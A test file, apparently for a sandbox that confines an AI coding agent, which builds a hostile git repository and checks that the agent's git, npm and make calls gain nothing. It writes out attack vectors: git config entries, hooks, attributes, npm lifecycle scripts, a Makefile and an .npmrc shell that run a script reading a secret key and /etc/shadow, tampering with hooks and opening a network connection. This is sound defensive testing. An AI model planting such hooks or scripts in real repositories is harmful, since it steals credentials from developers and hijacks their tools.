import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { chmod, mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { openTestAgent, type TestAgent, testBase } from "../test/confined-agent.js";

/** What a builder holds, on a repository that wants to get out of it. */
const GRANTS = [
  "file_read: {base}/in/*",
  "file_write: {base}/in/*",
  "git_commit: {base}/in",
  "exec: git status|diff|log|show",
  "exec: npm run|test",
  "exec: make",
  "tool: grep",
];
const SECRET = "sk-not-for-agents";

/** A repository whose configuration, hooks, attributes and build scripts each run `evil` where anything lets them. */
async function hostile(base: string): Promise<string> {
  const repo = join(base, "in");
  await writeFile(join(base, "secret/key"), SECRET);
  const evil = join(repo, "evil.sh");
  await writeFile(
    evil,
    `#!/bin/sh\ntouch ${repo}/ran-$$ ${base}/secret/ran\ncat ${base}/secret/key\ncat\n`,
  );
  await chmod(evil, 0o755);
  const git = (...args: string[]) =>
    execFileSync("git", ["-C", repo, "-c", "user.name=x", "-c", "user.email=x@x", ...args]);
  git("init", "-q");
  await writeFile(join(repo, "a.txt"), "one\n");
  git("add", "a.txt");
  git("commit", "-qm", "first");
  const settings: Record<string, string> = {
    "core.fsmonitor": evil,
    "core.hooksPath": join(repo, "hooks"),
    "core.editor": evil,
    "core.pager": evil,
    "core.sshCommand": evil,
    "diff.external": evil,
    "diff.evil.textconv": evil,
    "alias.status": `!${evil}`,
    "alias.log": `!${evil}`,
    "gpg.program": evil,
    "commit.gpgSign": "true",
    "credential.helper": `!${evil}`,
  };
  for (const [key, value] of Object.entries(settings)) git("config", key, value);
  await writeFile(join(repo, ".gitattributes"), "*.txt diff=evil\n");
  for (const dir of ["hooks", ".git/hooks"]) {
    await mkdir(join(repo, dir), { recursive: true });
    for (const hook of ["pre-commit", "post-commit", "commit-msg", "post-index-change"]) {
      await writeFile(join(repo, dir, hook), `#!/bin/sh\n${evil}\n`, { mode: 0o755 });
    }
  }
  await writeFile(
    join(repo, "steal.cjs"),
    `const fs = require("fs");
const tries = {
  secret: () => fs.readFileSync(${JSON.stringify(join(base, "secret/key"))}, "utf8"),
  passwd: () => fs.readFileSync("/etc/shadow", "utf8"),
  outside: () => fs.writeFileSync(${JSON.stringify(join(base, "out/ran"))}, "x"),
  hook: () => fs.writeFileSync(${JSON.stringify(join(repo, ".git/hooks/pre-push"))}, "x"),
  config: () => fs.appendFileSync(${JSON.stringify(join(repo, ".git/config"))}, "[core] x = y"),
};
for (const [name, attempt] of Object.entries(tries)) {
  try { attempt(); console.log(name + ": GAINED"); } catch (error) { console.log(name + ": " + error.code); }
}
const socket = require("net").connect(9, "192.0.2.1");
socket.on("connect", () => { console.log("network: GAINED"); socket.end(); });
socket.on("error", (error) => console.log("network: " + error.code));
`,
  );
  await writeFile(
    join(repo, "package.json"),
    JSON.stringify({
      name: "x",
      scripts: { pretest: "node steal.cjs", test: "node steal.cjs", postinstall: "node steal.cjs" },
    }),
  );
  await writeFile(
    join(repo, "Makefile"),
    `all:\n\t-@cat ${base}/secret/key && echo GAINED\n\t-@touch ${base}/out/ran && echo GAINED\n\t-@echo x > .git/hooks/pre-push && echo GAINED\n`,
  );
  return repo;
}

async function nothingGained({ base, events }: TestAgent, repo: string, config: string) {
  expect(existsSync(join(base, "secret/ran"))).toBe(false);
  expect(existsSync(join(base, "out/ran"))).toBe(false);
  expect(existsSync(join(repo, ".git/hooks/pre-push"))).toBe(false);
  expect(await readFile(join(repo, ".git/config"), "utf8")).toBe(config);
  expect(JSON.stringify(events())).not.toContain(SECRET);
}

describe("A24-23 a repository with hostile configuration, hooks and build scripts", () => {
  it("gains nothing from git: not from reading it, and not from committing in it", async () => {
    const base = await testBase();
    const repo = await hostile(base);
    const config = await readFile(join(repo, ".git/config"), "utf8");
    await using agent = await openTestAgent(base, { grants: GRANTS });
    await writeFile(join(repo, "a.txt"), "two\n");
    for (const args of [["status", "--short"], ["diff"], ["log", "-p"], ["show", "HEAD"]]) {
      const ran = await agent.call("exec", { program: "git", args, cwd: repo });
      expect(JSON.stringify(ran), args.join(" ")).not.toContain(SECRET);
    }
    const committed = await agent.call("git_commit", {
      workspace: repo,
      message: "a: two",
      paths: ["a.txt"],
    });
    expect(committed).toMatchObject({ ok: true, output: { nothing_to_commit: false } });
    const ran = execFileSync("sh", ["-c", `ls ${repo} | grep -c ^ran- || true`])
      .toString()
      .trim();
    expect(ran).toBe("0");
    await nothingGained(agent, repo, config);
  });

  it("gains nothing from building it: its scripts run confined, without what is not granted", async () => {
    const base = await testBase();
    const repo = await hostile(base);
    const config = await readFile(join(repo, ".git/config"), "utf8");
    await using agent = await openTestAgent(base, { grants: GRANTS });
    for (const call of [
      { program: "npm", args: ["test"], cwd: repo },
      { program: "npm", args: ["run", "postinstall"], cwd: repo },
      { program: "make", args: [], cwd: repo },
    ]) {
      const ran = await agent.call("exec", call);
      expect(JSON.stringify(ran), call.program).not.toContain("GAINED");
      expect(JSON.stringify(ran), call.program).not.toContain(SECRET);
    }
    await nothingGained(agent, repo, config);
  });

  it("gains nothing by naming the shell of its scripts in its .npmrc: that shell runs confined", async () => {
    const base = await testBase();
    const repo = await hostile(base);
    const config = await readFile(join(repo, ".git/config"), "utf8");
    await writeFile(join(repo, ".npmrc"), `script-shell=${join(repo, "evil.sh")}\n`);
    await using agent = await openTestAgent(base, { grants: GRANTS });
    const ran = await agent.call("exec", { program: "npm", args: ["test"], cwd: repo });
    expect(JSON.stringify(ran)).not.toContain(SECRET);
    await nothingGained(agent, repo, config);
  });
});
